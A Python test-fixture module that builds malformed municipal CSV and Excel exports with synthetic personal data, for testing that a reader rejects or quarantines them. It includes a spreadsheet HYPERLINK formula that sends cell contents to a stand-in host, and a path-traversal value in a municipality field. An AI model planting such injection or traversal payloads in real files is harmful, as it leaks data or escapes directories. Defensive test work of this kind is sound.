"""Hostile exports, built in the test: the four layouts with synthetic personal data planted in every
personal-data column, and the ways an export can go wrong (a red-team's classes). Shared by the reader
tests, the CLI corpus and the leak test.

Every planted value is synthetic (BSNs in the 99999xxxx test range, 06-999... numbers, .invalid
addresses). A reason, a log line, the store or Prefect's database holding any of `PII` is a leak.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import xlsxwriter

# --- planted personal data (synthetic) -----------------------------------------------------------------------

CALLER = "+31699900011"
DIALLED = "+31539990022"
AGENT = "agent.henk.proefpersoon"
BEHANDELAAR = "Bertha Behandelaarsma"
OMSCHRIJVING = "Burger Karel Klachtman (BSN 999990017) belt 0699900033 over zijn aanvraag"
BSN = "999990029"
INITIATOR = "Karel Klachtman"
KLANT = "Gerda Geheimhouder"
EMAIL = "gerda.geheim@voorbeeld.invalid"
TELEFOON = "0699900044"
# Klant in Focus: a name, a phone number and a BSN in Toelichting, an address in E-mailadres and in Pagina's query
REAGEERDER = "Hendrika Heimelijk"
TOELICHTING = f"{REAGEERDER} hielp mij; bel 06-99977766 of mail k.klager@voorbeeld.invalid, BSN 999990054"
REAGEERDER_EMAIL = "hendrika.heimelijk@voorbeeld.invalid"
PAGINA = "/paspoort-en-id-kaart?bsn=999990066"
# what must never appear outside the raw files: the values and their distinctive parts
PII = (
    CALLER,
    "699900011",
    DIALLED,
    "539990022",
    AGENT,
    "proefpersoon",
    BEHANDELAAR,
    "Behandelaarsma",
    OMSCHRIJVING,
    "Klachtman",
    "999990017",
    "0699900033",
    BSN,
    KLANT,
    "Geheimhouder",
    EMAIL,
    "gerda.geheim",
    TELEFOON,
    "699900044",
    REAGEERDER,
    "Heimelijk",
    TOELICHTING,
    "99977766",
    "k.klager",
    "999990054",
    REAGEERDER_EMAIL,
    "hendrika.heimelijk",
    "999990066",
)

# --- the four layouts ------------------------------------------------------------------------------------------

KCC_HEADER = [
    "CallId",
    "StartTimeUTC",
    "Queue",
    "DialledNumber",
    "CallerNumber",
    "WaitSeconds",
    "TalkSeconds",
    "HoldSeconds",
    "WrapUpSeconds",
    "Outcome",
    "TransferredTo",
    "AgentId",
]
CORSA_HEADER = [
    "Zaaknummer",
    "Zaaktype code",
    "Zaaktype",
    "Team",
    "Behandelaar",
    "Ontvangstkanaal",
    "Registratiedatum",
    "Startdatum",
    "Streefdatum",
    "Fatale datum",
    "Einddatum",
    "Status",
    "Resultaat",
    "Opgeschort (dagen)",
    "Verlengd",
    "Omschrijving",
    "Initiator BSN",
    "Initiator naam",
    "Gemeente",
]
JCC_HEADER = [
    "Afspraaknummer",
    "Productcode",
    "Product",
    "Locatie",
    "Datum",
    "Begintijd",
    "Eindtijd",
    "Geboekt op",
    "Geboekt via",
    "Status",
    "Aangemeld",
    "Opgeroepen",
    "Afgerond",
    "Naam klant",
    "E-mail",
    "Telefoon",
    "Gemeente",
]

KIF_HEADER = [
    "Reactie-ID",
    "Datum",
    "Kanaal",
    "Contactmoment",
    "Vraag",
    "Score",
    "Team",
    "Product",
    "Pagina",
    "Toelichting",
    "E-mailadres",
    "Gemeente",
]


def kcc_row(call_id: str, **change: str) -> dict[str, str]:
    row = {
        "CallId": call_id,
        "StartTimeUTC": "2026-07-01T10:00:00Z",
        "Queue": "LOS-KCC",
        "DialledNumber": DIALLED,
        "CallerNumber": CALLER,
        "WaitSeconds": "12",
        "TalkSeconds": "240",
        "HoldSeconds": "0",
        "WrapUpSeconds": "30",
        "Outcome": "Answered",
        "TransferredTo": "",
        "AgentId": AGENT,
    }
    return {**row, **change}


def corsa_row(zaak_id: str, **change: str) -> dict[str, str]:
    row = {
        "Zaaknummer": zaak_id,
        "Zaaktype code": "OMV-REG",
        "Zaaktype": "Omgevingsvergunning regulier",
        "Team": "PVH",
        "Behandelaar": BEHANDELAAR,
        "Ontvangstkanaal": "Webformulier",
        "Registratiedatum": "02-03-2026",
        "Startdatum": "02-03-2026",
        "Streefdatum": "",
        "Fatale datum": "27-04-2026",
        "Einddatum": "24-04-2026",
        "Status": "Afgehandeld",
        "Resultaat": "Verleend",
        "Opgeschort (dagen)": "",
        "Verlengd": "nee",
        "Omschrijving": OMSCHRIJVING,
        "Initiator BSN": BSN,
        "Initiator naam": INITIATOR,
        "Gemeente": "Losser",
    }
    return {**row, **change}


def jcc_row(afspraak_id: str, **change: str) -> dict[str, str]:
    row = {
        "Afspraaknummer": afspraak_id,
        "Productcode": "PASAAN",
        "Product": "Paspoort aanvraag",
        "Locatie": "Gemeentehuis Losser",
        "Datum": "04-02-2025",
        "Begintijd": "09:15",
        "Eindtijd": "09:30",
        "Geboekt op": "20-01-2025 10:00",
        "Geboekt via": "Internet",
        "Status": "Verschenen",
        "Aangemeld": "09:10:00",
        "Opgeroepen": "09:16:30",
        "Afgerond": "09:29:59",
        "Naam klant": KLANT,
        "E-mail": EMAIL,
        "Telefoon": TELEFOON,
        "Gemeente": "Losser",
    }
    return {**row, **change}


def kif_row(reactie_id: str, **change: str) -> dict[str, str]:
    row = {
        "Reactie-ID": reactie_id,
        "Datum": "01-07-2026 10:00",
        "Kanaal": "Website",
        "Contactmoment": "Paginafeedback",
        "Vraag": "Smiley",
        "Score": "4",
        "Team": "",
        "Product": "Paspoort aanvragen",
        "Pagina": PAGINA,
        "Toelichting": TOELICHTING,
        "E-mailadres": REAGEERDER_EMAIL,
        "Gemeente": "Losser",
    }
    return {**row, **change}


def quoted(value: str, sep: str) -> str:
    if sep in value or '"' in value or "\n" in value:
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_text(
    header: list[str], rows: list[dict[str, str] | list[str] | str], sep: str, eol: str = "\n", with_header: bool = True
) -> str:
    """Rows as a dict (in header order, quoted where needed), a list of raw fields, or a raw line."""
    lines = [sep.join(header)] if with_header else []
    for row in rows:
        if isinstance(row, str):
            lines.append(row)
        elif isinstance(row, list):
            lines.append(sep.join(row))
        else:
            lines.append(sep.join(quoted(row[c], sep) for c in header if c in row))
    return eol.join(lines) + eol


def without(row: dict[str, str], column: str) -> dict[str, str]:
    """The row with one field left out: a short row (every later value shifts one column left)."""
    return {c: v for c, v in row.items() if c != column}


def kcc_file(
    folder: Path, stamp: str, rows, header=KCC_HEADER, sep=",", eol="\n", bom=False, with_header=True, encoding="utf-8"
) -> Path:
    path = folder / f"kcc_gesprekken_{stamp}.csv"
    text = ("\ufeff" if bom else "") + csv_text(header, rows, sep, eol, with_header)
    path.write_bytes(text.encode(encoding))
    return path


def corsa_file(
    folder: Path, stamp: str, rows, header=CORSA_HEADER, sep=";", eol="\r\n", with_header=True, encoding="cp1252"
) -> Path:
    path = folder / f"corsa_zaken_{stamp}.csv"
    path.write_bytes(csv_text(header, rows, sep, eol, with_header).encode(encoding))
    return path


def jcc_csv(folder: Path, stamp: str, rows, header=JCC_HEADER, sep=";", eol="\n", with_header=True) -> Path:
    path = folder / f"jcc_afspraken_{stamp}.csv"
    path.write_bytes(csv_text(header, rows, sep, eol, with_header).encode("utf-8"))
    return path


def kif_file(
    folder: Path, stamp: str, rows, header=KIF_HEADER, sep=";", eol="\r\n", bom=True, with_header=True
) -> Path:
    path = folder / f"kif_feedback_{stamp}.csv"
    text = ("\ufeff" if bom else "") + csv_text(header, rows, sep, eol, with_header)
    path.write_bytes(text.encode("utf-8"))
    return path


def jcc_xlsx(
    folder: Path,
    stamp: str,
    rows: list[list[str | None]],
    header: list[str] | None = JCC_HEADER,
    sheet: str = "Afspraken",
) -> Path:
    """A workbook of text cells; `rows` are lists of cells (None = empty cell)."""
    path = folder / f"jcc_afspraken_{stamp}.xlsx"
    wb = xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_numbers": False})
    ws = wb.add_worksheet(sheet)
    lines: list[Sequence[str | None]] = [*([header] if header else []), *rows]
    for r, cells in enumerate(lines):
        for c, v in enumerate(cells):
            if v is not None:
                ws.write_string(r, c, v)
    wb.close()
    return path


# The programme's register (sources/register.py), with a column of its own that names who filled it in.
REGISTER_HEADER = [
    "Gemeente",
    "Project",
    "Plateau",
    "Indicator",
    "Omschrijving",
    "Teller",
    "Noemer",
    "Waarde",
    "Peildatum",
    "Bron en toelichting",
    "Ingevoerd door (rol)",
    "Naam invuller",
]


def register_row(peildatum: str = "31-03-2026", **change: str) -> dict[str, str]:
    row = {
        "Gemeente": "Losser",
        "Project": "Direct Duidelijk",
        "Plateau": "1",
        "Indicator": "brieven_direct_duidelijk",
        "Omschrijving": "Brieven herschreven",
        "Teller": "36",
        "Noemer": "180",
        "Waarde": "",
        "Peildatum": peildatum,
        "Bron en toelichting": "telling schrijfcoaches",
        "Ingevoerd door (rol)": REAGEERDER,  # a name where a role belongs: dropped
        "Naam invuller": KLANT,  # a column the reader does not know: never read
    }
    return {**row, **change}


def register_xlsx(folder: Path, stamp: str, rows: list[dict[str, str]]) -> Path:
    """The programme's register as text cells (sheet Register)."""
    return jcc_xlsx(folder, stamp, [cells(r, REGISTER_HEADER) for r in rows], REGISTER_HEADER, "Register").rename(
        folder / f"programma_register_{stamp}.xlsx"
    )


def cells(row: dict[str, str], header: list[str] = JCC_HEADER) -> list[str | None]:
    return [row[c] or None for c in header]


def damaged(path: Path, member: str = "xl/worksheets/sheet1.xml") -> Path:
    """Flip bytes inside a member's compressed data: the zip directory is intact, the member is not."""
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for k in range(start + info.compress_size // 3, start + info.compress_size // 3 + 16):
        data[k] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def garbage(n: int, seed: int = 7) -> bytes:
    """Deterministic binary noise."""
    out, x = bytearray(), seed
    for _ in range(n):
        x = (1103515245 * x + 12345) % 2**31
        out.append(x >> 16 & 0xFF)
    return bytes(out)


# --- the corpus ----------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile export and what it must get: rejected whole (`fragment` in the reason), or loaded with
    the rows `quarantined` as {line: rule}, `loaded` rows kept."""

    id: str
    make: Callable[[Path], Path]
    fragment: str | None = None  # rejected whole, the reason contains this
    quarantined: dict[int, str] = field(default_factory=dict)
    loaded: int = 0

    @property
    def rejected(self) -> bool:
        return self.fragment is not None


K, C, J = kcc_row, corsa_row, jcc_row
LONG = "X" * 300
FORMULA = '=HYPERLINK("http://voorbeeld.invalid/?q="&A1,"klik")'


def _big_line(folder: Path) -> Path:  # one AgentId of 17 MB: longer than the CSV reader's block of 16 MB
    return kcc_file(folder, "20260129", [K("K2901"), K("K2902", AgentId="a" * (17 * 1024 * 1024))])


CASES: list[Case] = [
    # -- KCC: the file cannot be read as its layout -------------------------------------------------
    Case(
        "kcc-headerless",
        lambda d: kcc_file(d, "20260101", [K("K0101"), K("K0102")], with_header=False),
        "regel 1 is geen kopregel",
    ),
    Case(
        "kcc-semicolons",
        lambda d: kcc_file(d, "20260102", [K("K0201")], sep=";"),
        "kopregel is gescheiden door ';', verwacht ','",
    ),
    Case(
        "kcc-semicolons-headerless",
        lambda d: kcc_file(d, "20260103", [K("K0301")], sep=";", with_header=False),
        "regel 1 is geen kopregel",
    ),
    Case(
        "kcc-open-quote",
        lambda d: kcc_file(
            d,
            "20260104",
            [
                K("K0401"),
                ",".join(
                    [
                        "K0402",
                        "2026-07-01T10:00:00Z",
                        "LOS-KCC",
                        DIALLED,
                        f'"{CALLER}',
                        "1",
                        "2",
                        "0",
                        "0",
                        "Answered",
                        "",
                        AGENT,
                    ]
                ),
                K("K0403"),
            ],
        ),
        "waarschijnlijk ontbreekt een afsluitend aanhalingsteken",
    ),
    Case("kcc-empty", lambda d: _bytes(d / "kcc_gesprekken_20260105.csv", b""), "bestand is leeg"),
    Case("kcc-blank-lines", lambda d: _bytes(d / "kcc_gesprekken_20260106.csv", b"\r\n\n  \n"), "bestand is leeg"),
    Case("kcc-header-only", lambda d: kcc_file(d, "20260107", []), "alleen een kopregel"),
    Case(
        "kcc-cp1252",
        lambda d: kcc_file(d, "20260108", [K("K0801", AgentId="Jöran Fictief")], encoding="cp1252"),
        "byte 0xf6 op regel 2 is geen UTF-8",
    ),
    Case("kcc-utf16", lambda d: kcc_file(d, "20260109", [K("K0901")], encoding="utf-16"), "UTF-16"),
    Case("kcc-binary", lambda d: _bytes(d / "kcc_gesprekken_20260110.csv", garbage(4000)), "geen UTF-8"),
    Case(
        "kcc-nul-header",
        lambda d: _bytes(
            d / "kcc_gesprekken_20260111.csv", b"Call\0Id,Start\n" + csv_text(KCC_HEADER, [K("K1101")], ",").encode()
        ),
        "NUL-bytes",
    ),
    Case(
        "kcc-required-twice",
        lambda d: kcc_file(d, "20260112", [[*K("K1201").values(), "LOS-KCC"]], header=[*KCC_HEADER, "Queue"]),
        "kolom 'Queue' staat 2 keer in de kopregel (kolom 3, 13)",
    ),
    Case(
        "kcc-missing-column",
        lambda d: kcc_file(
            d, "20260113", [without(K("K1301"), "Outcome")], header=[c for c in KCC_HEADER if c != "Outcome"]
        ),
        "kolom 'Outcome' ontbreekt in de kopregel",
    ),
    Case(
        "kcc-workbook",
        lambda d: _renamed(jcc_xlsx(d, "20260130", [cells(J("B3001"))]), "kcc_gesprekken_20260130.xlsx"),
        "bestandstype '.xlsx' wordt voor deze bron niet gelezen; verwacht een CSV-export (.csv)",
    ),
    Case(
        "kcc-all-rows-short",
        lambda d: kcc_file(d, "20260114", [without(K("K1401"), "TransferredTo")]),
        "geen enkele regel heeft 12 velden",
    ),
    # -- KCC: bad rows are quarantined, the rest is loaded -------------------------------------------
    Case(
        "kcc-short-and-long-rows",
        lambda d: kcc_file(
            d,
            "20260115",
            [K("K1501"), without(K("K1502"), "TransferredTo"), [*K("K1503").values(), "extra"], K("K1504")],
        ),
        quarantined={3: "aantal_velden", 4: "aantal_velden"},
        loaded=2,
    ),
    Case(
        "kcc-nul-in-key",
        lambda d: kcc_file(d, "20260116", [K("K1601"), K("K16\x0002")]),
        quarantined={3: "stuurteken"},
        loaded=1,
    ),
    Case(
        "kcc-long-key",
        lambda d: kcc_file(d, "20260117", [K("K1701"), K(LONG)]),
        quarantined={3: "ongeldige_sleutel"},
        loaded=1,
    ),
    Case(
        "kcc-formula-key",
        lambda d: kcc_file(d, "20260118", [K("K1801"), K(FORMULA)]),
        quarantined={3: "ongeldige_sleutel"},
        loaded=1,
    ),
    Case(
        "kcc-formula-and-long-labels",
        lambda d: kcc_file(
            d, "20260119", [K("K1901"), K("K1902", Outcome=FORMULA), K("K1903", Outcome=LONG), K("K1904", Queue=LONG)]
        ),
        quarantined={3: "onbekende_uitkomst", 4: "onbekende_uitkomst", 5: "ongeldige_wachtrij"},
        loaded=1,
    ),
    Case(
        "kcc-pii-in-number-and-time",
        lambda d: kcc_file(d, "20260120", [K("K2001"), K("K2002", WaitSeconds=CALLER), K("K2003", StartTimeUTC=EMAIL)]),
        quarantined={3: "geen_getal", 4: "ongeldige_tijd"},
        loaded=1,
    ),
    Case("kcc-crlf", lambda d: kcc_file(d, "20260121", [K("K2101"), K("K2102")], eol="\r\n"), loaded=2),
    Case(
        "kcc-mixed-eol-and-cr",
        lambda d: _bytes(
            d / "kcc_gesprekken_20260122.csv",
            (
                ",".join(KCC_HEADER)
                + "\r\n"
                + ",".join(K("K2201").values())
                + "\n"
                + ",".join(K("K2202").values())
                + "\r"
                + ",".join(K("K2203").values())
                + "\r\n"
            ).encode(),
        ),
        loaded=3,
    ),
    Case(
        "kcc-bom-mid-file",
        lambda d: _bytes(
            d / "kcc_gesprekken_20260123.csv",
            (csv_text(KCC_HEADER, [K("K2301")], ",") + "\ufeff" + csv_text(KCC_HEADER, [K("K2302")], ",")).encode(),
        ),
        quarantined={3: "stuurteken"},
        loaded=2,
    ),
    Case(
        "kcc-header-repeated",
        lambda d: _bytes(
            d / "kcc_gesprekken_20260124.csv",
            (csv_text(KCC_HEADER, [K("K2401")], ",") + csv_text(KCC_HEADER, [K("K2402")], ",")).encode(),
        ),
        quarantined={3: "kopregel_herhaald"},
        loaded=2,
    ),
    Case(
        "kcc-other-order-extra-columns",
        lambda d: kcc_file(
            d,
            "20260125",
            [{**K("K2501"), "Notitie": "Bel Karel Klachtman terug", "AgentId": AGENT}],
            header=[*reversed(KCC_HEADER), "Notitie"],
        ),
        loaded=1,
    ),
    Case(
        "kcc-pii-columns-twice",
        lambda d: kcc_file(d, "20260126", [[*K("K2601").values(), AGENT]], header=[*KCC_HEADER, "AgentId"]),
        loaded=1,
    ),
    Case(
        "kcc-blank-line-inside",
        lambda d: kcc_file(d, "20260127", [K("K2701"), "", K("K2702"), ""]),
        quarantined={3: "lege_regel"},
        loaded=2,
    ),
    Case(
        "kcc-long-line",
        lambda d: kcc_file(
            d, "20260128", [K("K2801", AgentId="a" * 2_000_000), K("K2802", TransferredTo="PVH" * 100_000)]
        ),
        loaded=2,
    ),
    Case("kcc-huge-line", _big_line, loaded=2),
    # -- Corsa ---------------------------------------------------------------------------------------------
    Case(
        "corsa-headerless",
        lambda d: corsa_file(d, "20260201", [C("Z-LOS-2026-000101")], with_header=False),
        "regel 1 is geen kopregel",
    ),
    Case(
        "corsa-commas",
        lambda d: corsa_file(d, "20260202", [C("Z-LOS-2026-000201")], sep=","),
        "kopregel is gescheiden door ','",
    ),
    Case(
        "corsa-open-quote",
        lambda d: corsa_file(
            d,
            "20260203",
            [
                C("Z-LOS-2026-000301"),
                ";".join({**C("Z-LOS-2026-000302"), "Omschrijving": '"' + OMSCHRIJVING}.values()),
                C("Z-LOS-2026-000303"),
            ],
        ),
        "waarschijnlijk ontbreekt een afsluitend aanhalingsteken",
    ),
    Case(
        "corsa-utf8",
        lambda d: corsa_file(d, "20260204", [C("Z-LOS-2026-000401", Behandelaar="Renée")], encoding="utf-8"),
        "UTF-8 gecodeerd; verwacht Windows-1252",
    ),
    Case("corsa-utf16", lambda d: corsa_file(d, "20260205", [C("Z-LOS-2026-000501")], encoding="utf-16"), "UTF-16"),
    Case(
        "corsa-undefined-byte",
        lambda d: _bytes(
            d / "corsa_zaken_20260206.csv",
            csv_text(CORSA_HEADER, [C("Z-LOS-2026-000601")], ";")
            .encode("cp1252")
            .replace(b"Klachtman", b"Kl\x81chtman", 1),
        ),
        "byte 0x81 op regel 2 is geen cp1252",
    ),
    # (each empty export differs by a byte: files with the same content are one file to the store's ledger)
    Case("corsa-empty", lambda d: _bytes(d / "corsa_zaken_20260207.csv", b"\r\n"), "bestand is leeg"),
    Case("corsa-binary", lambda d: _bytes(d / "corsa_zaken_20260208.csv", garbage(3000, seed=3)), "corsa_zaken"),
    Case(
        "corsa-key-twice-in-header",
        lambda d: corsa_file(
            d, "20260209", [[*C("Z-LOS-2026-000901").values(), "x"]], header=[*CORSA_HEADER, "Zaaknummer"]
        ),
        "kolom 'Zaaknummer' staat 2 keer in de kopregel",
    ),
    Case(
        "corsa-short-and-long-rows",
        lambda d: corsa_file(
            d,
            "20260210",
            [
                C("Z-LOS-2026-001001"),
                without(C("Z-LOS-2026-001002"), "Omschrijving"),
                ";".join(C("Z-LOS-2026-001003").values()).replace(OMSCHRIJVING, OMSCHRIJVING.replace(" ", ";", 2)),
                C("Z-LOS-2026-001004"),
            ],
        ),
        quarantined={3: "aantal_velden", 4: "aantal_velden"},
        loaded=2,
    ),
    Case(
        "corsa-gemeente-path",
        lambda d: corsa_file(
            d,
            "20260211",
            [
                C("Z-LOS-2026-001101"),
                C("Z-LOS-2026-001102", Gemeente="../../rapporten/x"),
                C("Z-LOS-2026-001103", Gemeente=FORMULA),
            ],
        ),
        quarantined={3: "ongeldige_gemeente", 4: "ongeldige_gemeente"},
        loaded=1,
    ),
    Case(
        "corsa-nul-and-long-key",
        lambda d: corsa_file(
            d,
            "20260212",
            [
                C("Z-LOS-2026-001201"),
                C("Z-LOS-2026-001202", Zaaktype="Omgevings\x00vergunning"),
                C(LONG),
                C("Z-LOS-2026-001204", Verlengd=LONG),
            ],
        ),
        quarantined={3: "stuurteken", 4: "ongeldige_sleutel", 5: "onbekende_waarde"},
        loaded=1,
    ),
    Case(
        "corsa-pii-in-dates",
        lambda d: corsa_file(
            d,
            "20260213",
            [
                C("Z-LOS-2026-001301"),
                C("Z-LOS-2026-001302", Registratiedatum=BSN),
                C("Z-LOS-2026-001303", Einddatum=INITIATOR),
            ],
        ),
        quarantined={3: "ongeldige_datum", 4: "ongeldige_datum"},
        loaded=1,
    ),
    Case(
        "corsa-other-order-lf",
        lambda d: corsa_file(d, "20260214", [C("Z-LOS-2026-001401")], header=sorted(CORSA_HEADER), eol="\n"),
        loaded=1,
    ),
    # -- JCC .csv ------------------------------------------------------------------------------------------
    Case(
        "jcc-csv-headerless",
        lambda d: jcc_csv(d, "20260301", [J("A0101")], with_header=False),
        "regel 1 is geen kopregel",
    ),
    Case(
        "jcc-csv-tabs",
        lambda d: jcc_csv(d, "20260302", [J("A0201")], sep="\t"),
        "kopregel is gescheiden door '\\t', verwacht ';'",
    ),
    Case(
        "jcc-csv-short-row",
        lambda d: jcc_csv(d, "20260303", [J("A0301"), without(J("A0302"), "E-mail")]),
        quarantined={3: "aantal_velden"},
        loaded=1,
    ),
    Case(
        "jcc-csv-formula-key",
        lambda d: jcc_csv(d, "20260304", [J("A0401"), J(FORMULA), J("A0403", Status=FORMULA)]),
        quarantined={3: "ongeldige_sleutel", 4: "onbekende_status"},
        loaded=1,
    ),
    # -- JCC .xlsx ----------------------------------------------------------------------------------------
    Case(
        "jcc-xlsx-damaged",
        lambda d: damaged(jcc_xlsx(d, "20260401", [cells(J("B0101"))] * 40)),
        "werkmap is beschadigd",
    ),
    Case(
        "jcc-xlsx-truncated",
        lambda d: _truncated(jcc_xlsx(d, "20260402", [cells(J("B0201"))])),
        "geen leesbare Excel-werkmap",
    ),
    Case(
        "jcc-xlsx-garbage",
        lambda d: _bytes(d / "jcc_afspraken_20260403.xlsx", garbage(5000, seed=11)),
        "geen leesbare Excel-werkmap",
    ),
    Case("jcc-xlsx-empty", lambda d: _bytes(d / "jcc_afspraken_20260404.xlsx", b"\n"), "bestand is leeg"),
    Case(
        "jcc-xlsx-headerless",
        lambda d: jcc_xlsx(d, "20260405", [cells(J("B0501"))], header=None),
        "regel 1 is geen kopregel",
    ),
    Case(
        "jcc-xlsx-header-twice",
        lambda d: jcc_xlsx(d, "20260406", [[*cells(J("B0601")), "Verschenen"]], header=[*JCC_HEADER, "Status"]),
        "kolom 'Status' staat 2 keer in de kopregel",
    ),
    Case(
        "jcc-xlsx-csv-inside",
        lambda d: _bytes(d / "jcc_afspraken_20260407.xlsx", csv_text(JCC_HEADER, [J("B0701")], ";").encode()),
        "geen leesbare Excel-werkmap",
    ),
    Case(
        "jcc-xlsx-cells-beyond-header",
        lambda d: jcc_xlsx(
            d, "20260408", [cells(J("B0801")), [*cells(J("B0802"))[:13], None, KLANT, EMAIL, TELEFOON, "Losser"]]
        ),
        quarantined={3: "aantal_velden"},
        loaded=1,
    ),
    Case(
        "jcc-xlsx-other-order-long-key",
        lambda d: jcc_xlsx(
            d,
            "20260409",
            [
                cells(J("B0901"), list(reversed(JCC_HEADER))),
                cells(J(LONG), list(reversed(JCC_HEADER))),
                cells(J("B0903", Locatie="Gemeentehuis\x07Losser"), list(reversed(JCC_HEADER))),
            ],
            header=list(reversed(JCC_HEADER)),
        ),
        quarantined={3: "ongeldige_sleutel", 4: "stuurteken"},
        loaded=1,
    ),
]


def _bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _renamed(path: Path, name: str) -> Path:
    return path.rename(path.with_name(name))


def _truncated(path: Path) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path
